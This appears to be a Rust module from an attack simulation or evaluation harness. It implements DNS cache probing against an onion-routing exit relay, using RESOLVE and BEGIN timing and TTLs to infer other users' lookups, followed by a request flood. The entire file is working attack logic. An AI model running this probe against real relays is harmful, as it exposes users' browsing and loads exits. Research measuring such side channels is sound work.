@@ -1,0 +1,168 @@
+//! DNS probing: an exit asks for names on behalf of all its clients and keeps the answers. A stranger asks it for the same names: does an
+//! answer tell, by its speed or by how long it says to hold, whether somebody else has asked before?
+
+use super::circuits::{Circuit, Lines};
+use super::field::{Field, LineId};
+use super::watchlist::{Probe, Watchlist};
+use super::{Attack, Prey};
+use onion::Instant;
+use onion::cell::msg::{Begin, BeginFlags, Connected, Resolved};
+use onion::cell::relay::RelayCommand;
+use onion::cell::{BODY_LEN, CircId, Command};
+use std::collections::VecDeque;
+use std::sync::Arc;
+
+/// Addresses of the attacker, with a link each.
+const LINES: usize = 24;
+
+/// Circuits on each link.
+const CIRCUITS: u32 = 20;
+
+/// Streams of a circuit.
+const STREAMS: u16 = 60_000;
+
+/// Nobody is known to listen there: a connection to it costs an exit as much as any, and ends at once.
+const CLOSED_PORT: u16 = 9;
+
+/// First one question after the other on the first circuit, since that is how answers tell most; then a flood of them on all circuits.
+pub(super) struct Prober {
+    watchlist: Arc<Watchlist>,
+    to_ask: VecDeque<(String, bool)>,
+    /// The question that waits for its answer: since when, and whether somebody has asked before.
+    asking: Option<(Instant, bool)>,
+    lines: Lines,
+    circuits: Vec<(Circuit, u16)>,
+    names: Vec<String>,
+    flooded: usize,
+}
+
+impl Prober {
+    pub(super) fn new(prey: &Prey) -> Self {
+        let watchlist = prey.watchlist();
+        let to_ask: VecDeque<_> = watchlist.all().collect();
+        let names = to_ask.iter().map(|(name, _)| name.clone()).collect();
+        Self {
+            watchlist,
+            to_ask,
+            asking: None,
+            lines: Lines::default(),
+            circuits: Vec::new(),
+            names,
+            flooded: 0,
+        }
+    }
+
+    /// Asks for the next name, if no question is under way.
+    fn probe(&mut self, field: &mut Field) {
+        let Some((circuit, streams)) = self.circuits.first_mut() else { return };
+        if self.asking.is_some() || !field.takes(circuit.line) {
+            return;
+        }
+        let Some((name, was_asked)) = self.to_ask.pop_front() else { return };
+        *streams += 1;
+        if self.to_ask.len() % 2 == 1 {
+            circuit.send(field, RelayCommand::RESOLVE, *streams, format!("{name}\0").as_bytes());
+        } else {
+            let data = begin(&name, self.watchlist.port());
+            circuit.send(field, RelayCommand::BEGIN, *streams, &data);
+        }
+        self.asking = Some((field.now(), was_asked));
+    }
+
+    /// The same names again and again, each by RESOLVE and by BEGIN.
+    fn flood(&mut self, field: &mut Field) {
+        for (circuit, streams) in &mut self.circuits {
+            // In turn, so that many circuits take part.
+            for _ in 0..8 {
+                if !field.takes(circuit.line) {
+                    break;
+                }
+                *streams = *streams % STREAMS + 1;
+                self.flooded += 1;
+                let name = &self.names[self.flooded / 2 % self.names.len().max(1)];
+                if self.flooded.is_multiple_of(2) {
+                    let data = format!("{name}\0");
+                    circuit.send(field, RelayCommand::RESOLVE, *streams, data.as_bytes());
+                } else {
+                    let data = begin(name, CLOSED_PORT);
+                    circuit.send(field, RelayCommand::BEGIN, *streams, &data);
+                }
+            }
+        }
+    }
+}
+
+fn begin(host: &str, port: u16) -> Vec<u8> {
+    let mut data = Vec::new();
+    Begin { host, port, flags: BeginFlags::default() }.encode_into(&mut data);
+    data
+}
+
+impl Attack for Prober {
+    fn act(&mut self, field: &mut Field) {
+        let relay = *field.prey().relay();
+        for line in self.lines.keep_to_other(field, LINES).iter().copied() {
+            if field.begun(line) < CIRCUITS && field.takes(line) {
+                field.begin(line, &[relay]);
+            }
+        }
+        if self.asking.is_none() && self.to_ask.is_empty() {
+            self.flood(field);
+        } else {
+            self.probe(field);
+        }
+    }
+
+    fn handle_built(&mut self, _field: &mut Field, circuit: Circuit) {
+        self.circuits.push((circuit, 0));
+    }
+
+    fn handle_cell(
+        &mut self,
+        field: &mut Field,
+        (line, circ_id): (LineId, CircId),
+        command: Command,
+        body: &[u8; BODY_LEN],
+    ) {
+        let (Some((asked_at, was_asked)), Some((circuit, streams))) =
+            (self.asking, self.circuits.first_mut())
+        else {
+            return;
+        };
+        if (circuit.line, circuit.circ_id, command) != (line, circ_id, Command::RELAY) {
+            return;
+        }
+        let Some((what, stream_id, data)) = circuit.open(body) else { return };
+        if stream_id != *streams {
+            return;
+        }
+        let ttl_s = match what {
+            RelayCommand::RESOLVED => {
+                let answers = Resolved::parse(&data).unwrap_or_default();
+                let is_address =
+                    |(answer, _): &&(Resolved<'_>, u32)| matches!(answer, Resolved::Address(_));
+                answers.iter().find(is_address).map(|(_, ttl_s)| *ttl_s)
+            }
+            RelayCommand::CONNECTED => {
+                // It is not wanted any more.
+                circuit.send(field, RelayCommand::END, stream_id, &[6]);
+                Connected::parse(&data).ok().and_then(|it| it.to).map(|(_, ttl_s)| ttl_s)
+            }
+            // Not answered: nothing is learnt from that.
+            RelayCommand::END => None,
+            _ => return,
+        };
+        self.asking = None;
+        if let Some(ttl_s) = ttl_s {
+            let took = field.now().saturating_since(asked_at);
+            self.watchlist.note(Probe { was_asked, took, ttl_s });
+        }
+    }
+
+    fn handle_lost(&mut self, line: LineId) {
+        self.lines.handle_lost(line);
+        self.circuits.retain(|(circuit, _)| circuit.line != line);
+        // Its answer will not come.
+        self.asking = None;
+    }
+}
